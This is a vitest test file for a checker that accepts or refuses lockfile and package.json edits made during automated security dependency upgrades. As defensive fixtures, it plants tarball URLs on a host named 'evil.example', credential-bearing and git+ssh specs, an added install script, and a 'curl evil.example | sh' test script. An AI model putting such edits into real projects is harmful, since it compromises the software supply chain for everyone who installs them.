import { describe, expect, it } from 'vitest';
import { judgePatch } from '../../../src/adapters/executor/rails/change-rails.ts';
import { judgeUpgradeEdit } from '../../../src/adapters/executor/rails/dependency-upgrade-rule.ts';
import { fileDiff } from '../../../src/adapters/llm/offline/file-diff.ts';
import { upgradeLockfile } from '../../../src/analyzers/security/lockfile-upgrade.ts';
import { npmJson, shaped, tarball, TINY_UPGRADE, upgradeLockfile3, upgradeManifest } from './upgrade-project.ts';

type Lock = { packages: Record<string, Record<string, unknown>>; [key: string]: unknown };

const lockBefore = npmJson(upgradeLockfile3());
const manifestBefore = npmJson(upgradeManifest());

/** The planner's own patch for the planted project: the shape the rule accepts. */
function planned(): { lock: Lock; manifest: Record<string, unknown> } {
  const edit = upgradeLockfile(lockBefore, manifestBefore, { name: 'tiny-dep', locations: ['node_modules/tiny-dep'], to: '1.0.1' });
  if (!edit.ok) throw new Error(edit.reason);
  return { lock: JSON.parse(edit.lockfile) as Lock, manifest: JSON.parse(edit.manifest!) as Record<string, unknown> };
}

function judge(change: (edit: ReturnType<typeof planned>) => void, upgrade = TINY_UPGRADE): string[] {
  const edit = planned();
  change(edit);
  return judgeUpgradeEdit(upgrade, {
    lockBefore,
    lockAfter: npmJson(edit.lock),
    manifestBefore,
    manifestAfter: npmJson(edit.manifest),
  });
}

const root = (lock: Lock) => lock.packages['node_modules/tiny-dep']!;

describe('the lockfile edit a security upgrade may make', () => {
  it("accepts the planner's upgrade: version, resolved and integrity of the named copy, and its raised range", () => {
    const edit = planned();
    expect(root(edit.lock)).toMatchObject({ version: '1.0.1', resolved: tarball('tiny-dep', '1.0.1') });
    expect(judge(() => undefined)).toEqual([]);
  });

  it('accepts a lockfile-only edit when package.json already allows the fixed version', () => {
    const reasons = judgeUpgradeEdit(TINY_UPGRADE, {
      lockBefore,
      lockAfter: npmJson({ ...planned().lock, packages: { ...planned().lock.packages, '': (upgradeLockfile3() as Lock).packages[''] } }),
      manifestBefore,
      manifestAfter: manifestBefore,
    });
    expect(reasons).toEqual([]);
  });

  it('accepts a private registry the lockfile already downloads from', () => {
    const mirror = 'npm.corp.example';
    const base = upgradeLockfile3() as Lock;
    for (const entry of Object.values(base.packages))
      if (typeof entry['resolved'] === 'string') entry['resolved'] = String(entry['resolved']).replace('registry.npmjs.org', mirror);
    const after = structuredClone(base);
    Object.assign(after.packages['node_modules/tiny-dep']!, {
      version: '1.0.1',
      resolved: tarball('tiny-dep', '1.0.1', mirror),
      integrity: shaped('x'),
    });
    expect(
      judgeUpgradeEdit(TINY_UPGRADE, {
        lockBefore: npmJson(base),
        lockAfter: npmJson(after),
        manifestBefore,
        manifestAfter: manifestBefore,
      }),
    ).toEqual([]);
  });

  it('refuses a resolved URL on another host', () => {
    expect(judge(({ lock }) => (root(lock)['resolved'] = tarball('tiny-dep', '1.0.1', 'evil.example')))).toEqual([
      'package-lock.json: node_modules/tiny-dep resolves to the host evil.example, which is neither registry.npmjs.org nor a host the lockfile already uses',
    ]);
  });

  it.each([
    ['git+ssh://git@github.com/evil/tiny-dep.git#deadbeef', /only https registry URLs/],
    ['file:../tiny-dep-1.0.1.tgz', /only https registry URLs/],
    ['../vendor/tiny-dep', /not a registry URL/],
    ['http://registry.npmjs.org/tiny-dep/-/tiny-dep-1.0.1.tgz', /only https registry URLs/],
    ['https://registry.npmjs.org/evil/-/evil-1.0.1.tgz', /not the registry tarball of tiny-dep@1\.0\.1/],
    ['https://registry.npmjs.org/tiny-dep/-/tiny-dep-1.0.1.tgz?x=1', /query/],
    ['https://user:pw@registry.npmjs.org/tiny-dep/-/tiny-dep-1.0.1.tgz', /credentials/],
  ])('refuses the resolved spec %s', (resolved, reason) => {
    const reasons = judge(({ lock }) => (root(lock)['resolved'] = resolved));
    expect(reasons).toHaveLength(1);
    expect(reasons[0]).toMatch(reason);
  });

  it('refuses a removed or weak integrity hash', () => {
    expect(judge(({ lock }) => delete root(lock)['integrity'])).toEqual([
      'package-lock.json: node_modules/tiny-dep has no single sha512 integrity hash, so npm could not check what it downloads',
    ]);
    expect(judge(({ lock }) => (root(lock)['integrity'] = 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk='))).toHaveLength(1);
  });

  it('refuses an added hasInstallScript', () => {
    expect(judge(({ lock }) => (root(lock)['hasInstallScript'] = true))).toEqual([
      'package-lock.json: node_modules/tiny-dep gains or changes "hasInstallScript"; an upgrade may not add an install script',
    ]);
  });

  it('refuses a new dependency the advisory does not name, in the tree or in package.json', () => {
    const reasons = judge(({ lock, manifest }) => {
      lock.packages['node_modules/evil'] = { version: '1.0.0', resolved: tarball('evil', '1.0.0'), integrity: shaped('evil') };
      (lock.packages['']!['dependencies'] as Record<string, string>)['evil'] = '^1.0.0';
      (manifest['dependencies'] as Record<string, string>)['evil'] = '^1.0.0';
    });
    expect(reasons).toEqual([
      'package-lock.json: the change adds node_modules/evil, which the upgrade of tiny-dep does not',
      'package.json: the change alters dependencies.evil; only tiny-dep may change',
      'package-lock.json (root entry): the change alters dependencies.evil; only tiny-dep may change',
    ]);
  });

  it('refuses edits to other fields and other packages', () => {
    expect(
      judge(({ lock }) => {
        root(lock)['dependencies'] = { evil: '^1.0.0' };
        root(lock)['bin'] = { tiny: 'cli.js' };
        lock.packages['node_modules/wrap-dep']!['version'] = '9.9.9';
        lock['requires'] = false;
      }),
    ).toEqual([
      'package-lock.json: the change alters its top-level "requires"',
      'package-lock.json: node_modules/tiny-dep changes "dependencies"; an upgrade changes only version, resolved and integrity',
      'package-lock.json: node_modules/tiny-dep changes "bin"; an upgrade changes only version, resolved and integrity',
      "package-lock.json: node_modules/wrap-dep changes, but only tiny-dep at node_modules/tiny-dep may change (the advisories' finding)",
    ]);
  });

  it('refuses a version other than the fixed one, a range it does not satisfy, and package.json edits beyond the range', () => {
    expect(judge(({ lock }) => (root(lock)['version'] = '1.0.2'))).toEqual([
      'package-lock.json: node_modules/tiny-dep would be 1.0.2, not the fixed version 1.0.1',
    ]);
    const ranges = judge(({ lock, manifest }) => {
      (manifest['dependencies'] as Record<string, string>)['tiny-dep'] = 'github:evil/tiny-dep';
      (lock.packages['']!['dependencies'] as Record<string, string>)['tiny-dep'] = 'github:evil/tiny-dep';
      manifest['scripts'] = { test: 'curl evil.example | sh' };
    });
    expect(ranges).toEqual([
      'package.json: the change alters "scripts"; an upgrade changes only the range of tiny-dep',
      'package.json: dependencies.tiny-dep becomes "github:evil/tiny-dep", not a plain version range 1.0.1 satisfies',
      'package-lock.json (root entry): dependencies.tiny-dep becomes "github:evil/tiny-dep", not a plain version range 1.0.1 satisfies',
    ]);
  });

  it('refuses package.json and the root entry disagreeing', () => {
    expect(judge(({ manifest }) => ((manifest['dependencies'] as Record<string, string>)['tiny-dep'] = '~1.0.1'))).toEqual([
      "package.json and package-lock.json's root entry disagree on the range of tiny-dep",
    ]);
  });

  it('refuses an edit that moves nothing, and a lockfileVersion change', () => {
    expect(judgeUpgradeEdit(TINY_UPGRADE, { lockBefore, lockAfter: lockBefore, manifestBefore, manifestAfter: manifestBefore })).toEqual([
      'package-lock.json: the change moves no copy of tiny-dep to 1.0.1',
    ]);
    expect(judge(({ lock }) => (lock['lockfileVersion'] = 2))).toEqual([
      'package-lock.json: only lockfileVersion 2 or 3 can be checked, and the change may not alter it',
    ]);
  });

  it('checks the lockfileVersion 2 "dependencies" copy against its packages entry', () => {
    const v2 = { ...upgradeLockfile3(), lockfileVersion: 2, dependencies: legacyTree() };
    const before = npmJson(v2);
    const edit = upgradeLockfile(before, manifestBefore, { name: 'tiny-dep', locations: ['node_modules/tiny-dep'], to: '1.0.1' });
    if (!edit.ok) throw new Error(edit.reason);
    const files = { lockBefore: before, manifestBefore, manifestAfter: edit.manifest! };
    expect(judgeUpgradeEdit(TINY_UPGRADE, { ...files, lockAfter: edit.lockfile })).toEqual([]);
    const forged = JSON.parse(edit.lockfile) as { dependencies: Record<string, Record<string, unknown>> };
    forged.dependencies['tiny-dep']!['resolved'] = tarball('tiny-dep', '1.0.1', 'evil.example');
    expect(judgeUpgradeEdit(TINY_UPGRADE, { ...files, lockAfter: npmJson(forged) })).toEqual([
      'package-lock.json: dependencies entry node_modules/tiny-dep changes "resolved" beyond what its packages entry says',
    ]);
  });
});

function legacyTree(): Record<string, unknown> {
  const packages = upgradeLockfile3().packages as Record<string, Record<string, unknown>>;
  const node = (location: string) => {
    const { version, resolved, integrity, dependencies } = packages[location]!;
    return { version, resolved, integrity, ...(dependencies ? { requires: dependencies } : {}) };
  };
  return {
    'tiny-dep': node('node_modules/tiny-dep'),
    'wrap-dep': { ...node('node_modules/wrap-dep'), dependencies: { 'tiny-dep': node('node_modules/wrap-dep/node_modules/tiny-dep') } },
  };
}

describe('the rails with a security upgrade', () => {
  const edit = planned();
  const patch =
    fileDiff('package.json', manifestBefore, npmJson(edit.manifest)) + fileDiff('package-lock.json', lockBefore, npmJson(edit.lock));
  const rails = {
    maxFiles: 10,
    maxLinesPerFile: 500,
    allowBinary: false,
    allowModeChanges: false,
    protectedPaths: ['.github/', 'package-lock.json', 'yarn.lock'],
  };
  const base = {
    symlinks: new Set<string>(),
    packageJson: new Map([['package.json', manifestBefore]]),
    lockfiles: new Map([['package-lock.json', lockBefore]]),
  };

  it('waives the lockfile glob for the upgrade only', () => {
    expect(judgePatch(patch, rails, base).refusals.map((r) => r.reason)).toEqual([
      'path package-lock.json is protected (package-lock.json)',
    ]);
    expect(judgePatch(patch, { ...rails, dependencyUpgrade: TINY_UPGRADE }, base)).toMatchObject({ allowed: true, refusals: [] });
  });

  it('keeps a protection the operator set on the folder, and refuses other files in the same patch', () => {
    const inFolder = { ...TINY_UPGRADE, lockfile: 'web/package-lock.json', manifest: 'web/package.json' };
    const moved = patch.replace(/([ab])\/package/g, '$1/web/package');
    const webBase = {
      ...base,
      packageJson: new Map([['web/package.json', manifestBefore]]),
      lockfiles: new Map([['web/package-lock.json', lockBefore]]),
    };
    const verdict = judgePatch(
      moved,
      { ...rails, protectedPaths: [...rails.protectedPaths, 'web/'], dependencyUpgrade: inFolder },
      webBase,
    );
    expect(verdict.refusals.map((r) => r.reason)).toEqual([
      'path web/package.json is protected (web/)',
      'path web/package-lock.json is protected (package-lock.json)',
    ]);
    const extra = `${patch}diff --git a/src/index.js b/src/index.js\nnew file mode 100644\n--- /dev/null\n+++ b/src/index.js\n@@ -0,0 +1 @@\n+export {};\n`;
    expect(judgePatch(extra, { ...rails, dependencyUpgrade: TINY_UPGRADE }, base).refusals.map((r) => r.reason)).toEqual([
      'the upgrade of tiny-dep may only edit package.json and package-lock.json in place; the patch also changes src/index.js',
    ]);
  });
});
